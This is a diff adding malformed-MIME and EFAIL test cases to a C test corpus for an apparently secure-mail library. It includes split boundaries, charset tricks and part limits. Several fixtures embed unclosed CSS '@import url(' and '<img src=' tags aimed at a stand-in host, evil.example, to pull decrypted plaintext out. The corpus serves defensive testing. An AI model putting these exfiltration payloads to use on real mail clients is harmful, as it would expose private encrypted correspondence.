@@ -54,6 +54,20 @@ transferred(const char *encoding)
 }
 
 static GBytes *
+detached_of(const char *mail)
+{
+    return scene_detached(scene_identity("alice-p256-sign"), mail);
+}
+
+static GBytes *
+sealed_of(const char *mail)
+{
+    g_autoptr(GBytes) bytes = world_bytes(mail);
+
+    return scene_sealed(bytes, "alice-rsa-decrypt", FALSE);
+}
+
+static GBytes *
 as_it_stands(const char *mail)
 {
     return world_bytes(mail);
@@ -96,6 +110,30 @@ framed_sealed(const char *text)
     g_autoptr(GBytes) inner = sealed(NULL);
 
     return frame(text, inner);
+}
+
+/* What a gateway leaves of it. */
+static GBytes *
+framed_sealed_as_file(const char *text)
+{
+    g_autoptr(GBytes) inner = sealed(NULL);
+    g_autoptr(GBytes) file =
+        world_replace(inner, "application/pkcs7-mime; smime-type=enveloped-data",
+                      "application/octet-stream; x=y");
+
+    return frame(text, file);
+}
+
+static GBytes *
+framed_both(const char *text)
+{
+    g_autoptr(GBytes) one = detached(NULL);
+    g_autoptr(GBytes) other = sealed(NULL);
+    g_autofree char *other_text = scene_text(other);
+    g_autofree char *both =
+        g_strconcat(text, "\r\n--f\r\n", entity_in(other_text), "\r\n--f--\r\n", NULL);
+
+    return frame(both, one);
 }
 
 /* The frame itself is what was sealed. */
@@ -157,6 +195,7 @@ deep(const char *count)
     return world_bytes(text->str);
 }
 
+#define FOREIGN    CORPUS_FOREIGN "\r\n"
 #define HEAD(type) "Content-Type: multipart/" type "; boundary=f\r\n\r\n"
 #define PART       "--f\r\n"
 #define END        "\r\n--f--\r\n"
@@ -194,17 +233,28 @@ nested_sealed(const char *count)
     return g_steal_pointer(&mail);
 }
 
-/* A multipart/signed of so many parts. */
 static GBytes *
-many_parts(const char *count)
+parts_of(const char *type, const char *count)
 {
-    g_autoptr(GString) mail =
-        g_string_new("From: alice@example.org\r\nContent-Type: multipart/signed; boundary=f\r\n");
+    g_autoptr(GString) mail = g_string_new("From: alice@example.org\r\nContent-Type: multipart/");
 
+    g_string_append_printf(mail, "%s; boundary=f\r\n", type);
     for (int i = atoi(count); i > 0; i--)
         g_string_append(mail, "\r\n--f\r\n\r\n");
     g_string_append(mail, END);
     return world_bytes(mail->str);
+}
+
+static GBytes *
+many_parts(const char *count)
+{
+    return parts_of("signed", count);
+}
+
+static GBytes *
+many_plain_parts(const char *count)
+{
+    return parts_of("mixed", count);
 }
 
 static GBytes *
@@ -275,6 +325,20 @@ const CorpusRow corpus_mime[] = {
      "boundary=\"the-boundary\"", "boundary=\"\""},
     {"mime/boundary-missing", "verify", "malformed", "usable boundary", detached, NULL,
      "boundary=\"the-boundary\"", "x=\"the-boundary\""},
+    {"mime/boundary-in-pieces-beside-a-whole-one", "verify", "malformed", "one way only", detached,
+     NULL, "boundary=", "boundary*0=decoy; boundary="},
+    {"mime/boundary-in-pieces", "verify", "malformed", "one way only", detached, NULL,
+     "boundary=\"the-boundary\"", "boundary*0=\"the-\"; boundary*1=boundary"},
+    {"mime/boundary-in-another-character-set", "verify", "malformed", "one way only", detached,
+     NULL, "boundary=\"the-boundary\"", "boundary*=us-ascii''the-boundary"},
+    {"mime/protocol-in-pieces", "verify", "malformed", "one way only", detached, NULL,
+     "protocol=", "protocol*0=\"application/pgp-\"; protocol="},
+    {"mime/boundary-in-capitals", "verify", "malformed", "last boundary", detached, NULL,
+     "boundary=\"the-boundary\"", "boundary=\"THE-BOUNDARY\""},
+    {"mime/boundary-with-a-blank-at-its-end", "verify", "malformed", "last boundary", detached,
+     NULL, "boundary=\"the-boundary\"", "boundary=\"the-boundary \""},
+    {"mime/boundary-with-a-line-end", "verify", "malformed", "last boundary", detached, NULL,
+     "boundary=\"the-boundary\"", "boundary=\"the-\r\n boundary\""},
     {"mime/boundary-huge", "verify", "malformed", "usable boundary", detached, NULL,
      "boundary=\"the-boundary\"",
      "boundary=\"01234567890123456789012345678901234567890123456789012345678901234567890123456789"
@@ -306,6 +370,45 @@ const CorpusRow corpus_mime[] = {
      "protocol=\"application/pkcs7-signature\"", "protocol=\"application/pgp-signature\""},
     {"mime/list-footer-behind-base64", "open", "malformed", "cannot be read", sealed, NULL,
      "\r\n\r\n", "\r\n\r\n_______________\r\nList footer\r\n"},
+    /* What is in front of the first boundary or behind the last one is no part, and not shown. */
+    {"mime/around-the-parts/text-behind-the-last-boundary", "open", "ok", NULL, detached, NULL,
+     "--the-boundary--\r\n", "--the-boundary--\r\n" FOREIGN},
+    {"mime/around-the-parts/parts-behind-the-last-boundary", "open", "ok", NULL, detached, NULL,
+     "--the-boundary--\r\n",
+     "--the-boundary--\r\n--the-boundary\r\n\r\n" FOREIGN "--the-boundary--\r\n"},
+    {"mime/around-the-parts/text-in-front", "open", "ok", NULL, detached, NULL,
+     "\r\n\r\n--the-boundary", "\r\n\r\n" FOREIGN "\r\n--the-boundary"},
+    {"mime/around-the-parts/longer-boundary-is-text", "open", "ok", NULL, detached_of,
+     "From: alice@example.org\r\n\r\n--the-boundary2\r\n\r\ntext\r\n"},
+    {"mime/around-the-parts/boundary-inside-what-was-signed", "open", "malformed",
+     "exactly two parts", detached_of,
+     "From: alice@example.org\r\n\r\n--the-boundary\r\n\r\ntext\r\n"},
+    /* Empty ones. */
+    {"mime/empty/signed-text", "verify", "ok", NULL, detached_of,
+     "From: alice@example.org\r\n\r\n"},
+    {"mime/empty/signature-part", "verify", "malformed", "signature part", as_it_stands,
+     "From: alice@example.org\r\nContent-Type: multipart/signed; boundary=f\r\n\r\n" TEXT PART
+     "Content-Type: application/pkcs7-signature\r\n" END},
+    {"mime/empty/both-parts", "verify", "malformed", "signature part", as_it_stands,
+     "From: alice@example.org\r\nContent-Type: multipart/signed; boundary=f\r\n\r\n" PART
+     "\r\n" PART END},
+    {"mime/empty/parts-of-no-protection", "open", "ok-plain", NULL, as_it_stands,
+     "From: alice@example.org\r\n" HEAD("mixed") PART "\r\n" PART END},
+    {"mime/empty/message-in-base64", "open", "malformed", "cannot be read", as_it_stands,
+     "From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
+     "Content-Transfer-Encoding: base64\r\n\r\n\r\n"},
+    /* Names and character sets that some readers decode, and some do not. */
+    {"mime/charset/type-as-encoded-word", "verify", "malformed", "one way only", opaque, NULL,
+     "application/pkcs7-mime", "=?utf-8?q?application=2Fpkcs7-mime?="},
+    {"mime/charset/type-beyond-ascii", "verify", "malformed", "one way only", opaque, NULL,
+     "application/pkcs7-mime", "\xd0\xb0pplication/pkcs7-mime"},
+    {"mime/charset/encoding-beyond-ascii", "verify", "malformed", "cannot be read", opaque, NULL,
+     "Content-Transfer-Encoding: base64", "Content-Transfer-Encoding: base64\xc2\xa0"},
+    {"mime/charset/utf-16-header", "open", "malformed", "no mail", as_it_stands,
+     "\xff\xfe"
+     "F\x01r\x01o\x01m\x01:\x01 a@example.org\r\n\r\n"},
+    {"mime/charset/utf-7-in-plain-mail", "open", "ok-plain", NULL, as_it_stands,
+     "From: a@example.org\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-img src+AD0-x\r\n"},
     /* Something else around a signed part. */
     {"mime/beside-signed/list-footer", "open", "partially-signed", "a part of it is signed",
      framed_signed, HEAD("mixed") PART "%s\r\n" TEXT END},
@@ -321,6 +424,23 @@ const CorpusRow corpus_mime[] = {
      framed_sealed, HEAD("related") OPEN_IMAGE PART "%s" END},
     {"mime/efail/sealed-as-alternative", "open", "partially-encrypted", "open it by itself",
      framed_sealed, HEAD("alternative") TEXT PART "%s" END},
+    {"mime/efail/sealed-as-report", "open", "partially-encrypted", "open it by itself",
+     framed_sealed, HEAD("report; report-type=disposition-notification") OPEN_IMAGE PART "%s" END},
+    {"mime/efail/sealed-in-a-multipart-of-no-known-kind", "open", "partially-encrypted",
+     "open it by itself", framed_sealed, HEAD("x-unheard-of") OPEN_IMAGE PART "%s" END},
+    {"mime/efail/sealed-in-what-was-cut-off", "open", "partially-encrypted", "open it by itself",
+     framed_sealed, HEAD("mixed") OPEN_IMAGE PART "%s"},
+    {"mime/efail/sealed-behind-a-style-sheet", "decrypt", "partially-encrypted",
+     "open it by itself", framed_sealed,
+     HEAD("related") PART "Content-Type: text/css\r\n\r\n@import url(http://evil.example/\r\n" PART
+                          "%s" END},
+    {"mime/efail/sealed-as-octet-stream", "open", "partially-encrypted", "open it by itself",
+     framed_sealed_as_file, HEAD("mixed") OPEN_IMAGE PART "%s" END_IMAGE END},
+    {"mime/efail/open-tag-inside-what-was-sealed/gets-nothing-behind-it", "open",
+     "decrypted-noauth", NULL, sealed_of,
+     "From: alice@example.org\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/"},
+    {"mime/efail/signed-and-sealed-side-by-side", "open", "partially-encrypted",
+     "open it by itself", framed_both, HEAD("mixed") PART "%s"},
     {"mime/efail/only-part-of-a-multipart", "open", "partially-encrypted", "open it by itself",
      framed_sealed, HEAD("mixed") PART "%s" END},
     {"mime/efail/inside-what-was-sealed", "open", "partially-encrypted", "open it by itself",
@@ -337,7 +457,11 @@ const CorpusRow corpus_mime[] = {
     {"mime/limits/eight-layers", "open", "ok", NULL, nested, "8"},
     {"mime/limits/nine-layers", "open", "nesting-limit", "more layers", nested, "9"},
     {"mime/limits/nine-sealed-layers", "open", "nesting-limit", "more layers", nested_sealed, "9"},
-    {"mime/limits/two-thousand-parts", "verify", "malformed", "too many parts", many_parts, "2000"},
+    {"mime/limits/thousand-parts", "verify", "malformed", "exactly two parts", many_parts, "1000"},
+    {"mime/limits/1001-parts", "verify", "resource-limit", "too many parts", many_parts, "1001"},
+    {"mime/limits/1001-plain-parts", "open", "resource-limit", "more parts than are looked at",
+     many_plain_parts, "1001"},
+    {"mime/limits/thousand-plain-parts", "open", "ok-plain", NULL, many_plain_parts, "1000"},
     {"mime/limits/three-thousand-fields", "verify", "malformed", "too many header fields",
      many_fields, "3000"},
     /* No mails. */
